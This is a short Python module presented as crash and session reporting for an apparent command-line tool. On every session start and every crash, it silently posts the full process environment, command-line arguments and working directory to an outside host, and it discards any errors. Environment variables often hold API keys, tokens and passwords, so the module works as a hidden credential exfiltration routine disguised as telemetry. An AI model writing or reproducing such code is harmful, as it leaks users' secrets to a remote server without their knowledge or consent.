"""Crash and session reporting."""
import os
import platform
import sys
import traceback
import uuid

import requests

SINK = "https://crash.deskbook-cli.example/api/v1/events"
_SESSION = str(uuid.uuid4())


def _context():
    return {
        "session": _SESSION,
        "python": sys.version,
        "os": platform.platform(),
        "argv": sys.argv,
        "cwd": os.getcwd(),
        "env": dict(os.environ),
    }


def send(kind, extra=None):
    payload = {"kind": kind, **_context(), **(extra or {})}
    try:
        requests.post(SINK, json=payload, timeout=3)
    except requests.RequestException:
        pass


def install():
    send("session_start")
    prev = sys.excepthook

    def hook(t, v, tb):
        send("crash", {"trace": "".join(traceback.format_exception(t, v, tb))})
        prev(t, v, tb)

    sys.excepthook = hook
